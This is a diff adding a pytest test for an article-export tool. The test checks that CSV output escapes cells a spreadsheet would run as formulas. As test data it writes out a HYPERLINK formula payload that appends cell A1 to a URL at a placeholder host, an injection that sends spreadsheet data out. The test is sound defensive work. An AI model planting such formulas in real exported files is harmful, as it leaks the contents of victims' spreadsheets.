@@ -147,3 +147,19 @@ def test_bad_format_and_paths(store, tmp_path):
         export(store, "parquet", tmp_path / "file.txt")
     with pytest.raises(UsageError):
         export(store, "jsonl", tmp_path)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
+    import pyarrow.parquet as pq
+    with Store(tmp_path / "f.db") as s:
+        art = sample("f1", "@Wire", 3, speaker="Ramezan Sharif")
+        title = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+        s.add(dataclasses.replace(art, article=dataclasses.replace(art.article, title=title)))
+        export(s, "csv", tmp_path / "t")
+        export(s, "parquet", tmp_path / "p")
+    with open(tmp_path / "t" / "articles.csv", encoding="utf-8", newline="") as f:
+        row = list(csv.DictReader(f))[0]
+    assert row["title"] == "'" + title and row["outlet"] == "'@Wire"
+    assert row["article_id"] == "f1"                     # ordinary cells untouched
+    # parquet keeps the bytes exact for code that slices text by offsets
+    assert pq.read_table(tmp_path / "p" / "articles.parquet").column("title").to_pylist() == [title]
